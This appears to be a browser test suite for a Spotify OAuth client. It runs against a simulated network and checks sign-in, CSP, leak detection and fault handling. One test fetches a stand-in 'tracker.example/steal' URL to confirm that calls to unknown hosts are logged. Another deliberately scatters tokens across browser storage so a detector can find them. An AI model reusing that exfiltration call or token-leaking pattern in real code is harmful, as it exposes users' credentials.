// Chromium meets the closed world under Spotify's real names, from an empty page that has the policy of the real one.
import assert from 'node:assert/strict';
import { copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, beforeEach, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { serve } from '../../../.ci/serve.mjs';
import { launch } from '../chromium.mjs';
import { SCOPES } from './accounts.mjs';
import { authorizeUrl, pkce } from './client.mjs';
import { FAULTS } from './faults.mjs';
import { findLeaks, hear } from './leaks.mjs';
import { startWorld } from './world.mjs';

const world = await startWorld();
const folder = await mkdtemp(path.join(tmpdir(), 'page-'));
await writeFile(path.join(folder, 'index.html'), '<!doctype html><title>A page</title>');
await copyFile(fileURLToPath(new URL('../../../public/_headers', import.meta.url)), path.join(folder, '_headers'));
const server = await serve({ root: folder });
const home = server.url;
let browser;

before(async () => {
  browser = await launch(world.flags);
});
beforeEach(() => world.reset());
after(async () => {
  await browser?.close();
  await world.close();
  await server.close();
  await rm(folder, { recursive: true });
});

/** A page in a context of its own, nowhere yet. */
async function newPage(t, where = browser) {
  const context = await where.newContext();
  t.after(() => context.close());
  return context.newPage();
}

/** A page at home, under its policy. */
async function pageAtHome(t) {
  const page = await newPage(t);
  const answer = await page.goto(home);
  assert.match(
    answer.headers()['content-security-policy'],
    /connect-src 'self' https:\/\/accounts\.spotify\.com https:\/\/api\.spotify\.com;/,
  );
  return page;
}

/** A sign-in of a page, by hand: the redirect, the exchange. */
async function signInFrom(page, scope = SCOPES.join(' ')) {
  const clientId = world.accounts.register({ redirectUris: [home] });
  const secrets = pkce();
  await page.goto(authorizeUrl(clientId, secrets, { redirect_uri: home, scope }));
  await page.waitForURL(/127\.0\.0\.1/);
  const code = new URL(page.url()).searchParams.get('code');
  return page.evaluate(
    async fields => {
      const answer = await fetch('https://accounts.spotify.com/api/token', {
        method: 'POST',
        body: new URLSearchParams(fields),
      });
      return { status: answer.status, ...(await answer.json()) };
    },
    {
      grant_type: 'authorization_code',
      code,
      redirect_uri: home,
      client_id: clientId,
      code_verifier: secrets.verifier,
    },
  );
}

/** What a page learns from one call: the status and the body, or the name of the error. */
const call = (page, token, method, path, value, patience = 5000) =>
  page.evaluate(
    async ([token, method, path, value, patience]) => {
      try {
        const answer = await fetch(`https://api.spotify.com${path}`, {
          method,
          headers: { Authorization: `Bearer ${token}`, ...(value ? { 'Content-Type': 'application/json' } : {}) },
          body: value ? JSON.stringify(value) : undefined,
          signal: AbortSignal.timeout(patience),
        });
        const retryAfter = answer.headers.get('Retry-After');
        const text = await answer.text().catch(error => error.name);
        return { status: answer.status, retryAfter, text: text.slice(0, 200), length: text.length };
      } catch (error) {
        return { error: error.name };
      }
    },
    [token, method, path, value, patience],
  );

test('a page on a loopback address signs in, is called back, and reads the Web API', async t => {
  const page = await pageAtHome(t);
  const tokens = await signInFrom(page, 'user-top-read');
  assert.deepEqual([tokens.status, tokens.scope, tokens.expires_in], [200, 'user-top-read', 3600]);
  const { status, text } = await call(page, tokens.access_token, 'GET', '/v1/me');
  assert.equal(status, 200);
  assert.match(text, /"type":"user"/);
  assert.ok(
    world.log.some(({ method, host }) => method === 'OPTIONS' && host === 'api.spotify.com'),
    'a preflight went ahead',
  );
  assert.deepEqual(
    [...new Set(world.log.map(({ referrer }) => referrer))],
    ['none'],
    'nobody is told where the page is',
  );
  assert.ok(world.apiCalls.every(({ cookies }) => !cookies));
});

test('a listener agrees or cancels on the page of the server', async t => {
  world.accounts.settings.consent = 'asked';
  const clientId = world.accounts.register({ redirectUris: [home] });
  for (const [name, outcome] of [
    ['Cancel', 'error'],
    ['Agree', 'code'],
  ]) {
    const page = await pageAtHome(t);
    await page.goto(authorizeUrl(clientId, pkce(), { redirect_uri: home }));
    await page.getByRole('button', { name }).click();
    await page.waitForURL(/127\.0\.0\.1/);
    assert.ok(new URL(page.url()).searchParams.get(outcome), name);
  }
});

test('a secret is found wherever a page leaves it, and nowhere else', async t => {
  const page = await newPage(t);
  const said = hear(page.context());
  await page.goto(home);
  await signInFrom(page);
  const { secrets } = world.accounts;
  assert.deepEqual(secrets.map(({ kind }) => kind).sort(), [
    'access token',
    'code',
    'refresh token',
    'state',
    'verifier',
  ]);
  assert.deepEqual(await findLeaks(page, secrets, { said }), ['state in address', 'code in address']);
  await page.evaluate(() => history.replaceState(null, '', '/'));
  assert.deepEqual(await findLeaks(page, secrets, { said }), []);

  await page.evaluate(async secrets => {
    const { state, code, verifier, ...tokens } = Object.fromEntries(secrets.map(({ kind, value }) => [kind, value]));
    sessionStorage.setItem('pending', verifier);
    localStorage.setItem('token', tokens['access token']);
    history.replaceState({ state }, '', '/');
    document.title = code;
    console.log(`refreshed ${tokens['refresh token']}`);
    await (await caches.open('answers')).put(
      '/cached',
      new Response(JSON.stringify(tokens), { headers: { 'Content-Type': 'application/json' } }),
    );
    await new Promise(resolve => {
      const opening = indexedDB.open('tokens');
      opening.onupgradeneeded = () => opening.result.createObjectStore('set').put(tokens, 'only');
      opening.onsuccess = () => {
        opening.result.close();
        resolve();
      };
    });
  }, secrets);
  assert.deepEqual((await findLeaks(page, secrets, { said, allowed: / token in indexedDB tokens set$/ })).sort(), [
    'access token in caches',
    'access token in localStorage',
    'code in document',
    'refresh token in caches',
    'refresh token in console',
    'state in history',
    'verifier in sessionStorage',
  ]);
});

test('no other name leads anywhere', async t => {
  const page = await newPage(t);
  for (const host of ['example.org', 'spotify.com', 'www.spotify.com', 'apresolve.spotify.com'])
    await assert.rejects(page.goto(`https://${host}/`), /ERR_NAME_NOT_RESOLVED/, host);
  assert.equal(world.log.length, 0);
});

test('a world for every host notes who else was called', async t => {
  const wide = await startWorld({ everyHost: true });
  const another = await launch(wide.flags);
  t.after(async () => {
    await another.close();
    await wide.close();
  });
  const page = await newPage(t, another);
  await page.evaluate(() => fetch('https://tracker.example/steal?what=everything', { mode: 'no-cors' }));
  assert.deepEqual(
    wide.strangers.map(({ method, host, path }) => [method, host, path]),
    [['GET', 'tracker.example', '/steal']],
  );
});

test('pictures and the embedded player answer under their names', async t => {
  const page = await pageAtHome(t);
  const [id] = world.api.library.tracks.map(track => track.id);
  const width = await page.evaluate(async source => {
    const picture = new Image();
    picture.src = source;
    await picture.decode();
    return picture.naturalWidth;
  }, world.api.library.tracks[0].album.images[0].url);
  assert.equal(width, 1);
  await page.evaluate(
    source => document.body.append(Object.assign(document.createElement('iframe'), { src: source })),
    `https://open.spotify.com/embed/track/${id}`,
  );
  await page.frameLocator('iframe').getByText(`track ${id}`).waitFor();
});

test('the browser sends a lost request once: a lost answer is one playlist', async t => {
  const page = await pageAtHome(t);
  const { access_token: token } = await signInFrom(page);
  for (let round = 1; round <= 5; round += 1) {
    assert.equal((await call(page, token, 'GET', '/v1/me')).status, 200);
    world.faults.add({ method: 'POST', path: '/v1/me/playlists', times: 1, fault: 'lost answer' });
    assert.deepEqual(await call(page, token, 'POST', '/v1/me/playlists', { name: `List ${round}` }), {
      error: 'TypeError',
    });
    assert.equal(world.api.state.playlists.length, round);
  }
});

test('each fault reaches a page as it would from Spotify', async t => {
  const page = await pageAtHome(t);
  const { access_token: token } = await signInFrom(page);
  const seen = {};
  for (const kind of Object.keys(FAULTS)) {
    const rule = world.faults.add({ method: 'GET', path: '/v1/me', fault: kind });
    seen[kind] = await call(page, token, 'GET', '/v1/me', undefined, /hanging|dripping/.test(kind) ? 300 : 20_000);
    rule.remove();
  }
  for (const kind of [
    '429 without CORS',
    'captive portal without CORS',
    'reset',
    'closed without an answer',
    'lost answer',
  ])
    assert.deepEqual(seen[kind], { error: 'TypeError' }, kind);
  assert.deepEqual(seen.hanging, { error: 'TimeoutError' });
  for (const kind of ['hanging body', 'dripping'])
    assert.deepEqual([seen[kind].status, seen[kind].text], [200, 'TimeoutError'], kind);
  assert.deepEqual([seen.truncated.status, seen.truncated.text], [200, 'TypeError']);
  for (const [kind, { status }] of Object.entries(seen))
    if (/^\d{3}\b(?!.*without CORS)/.test(kind)) assert.equal(status, Number(kind.slice(0, 3)), kind);
  assert.deepEqual(
    ['429', '429 for a day', '429 with an unreadable Retry-After', '429 without Retry-After'].map(
      kind => seen[kind].retryAfter,
    ),
    ['1', '86400', null, null],
  );
  assert.ok(seen['40 MB'].length > 40 * 1024 * 1024);
  assert.match(seen['invalid UTF-8'].text, /\uFFFD/);
});
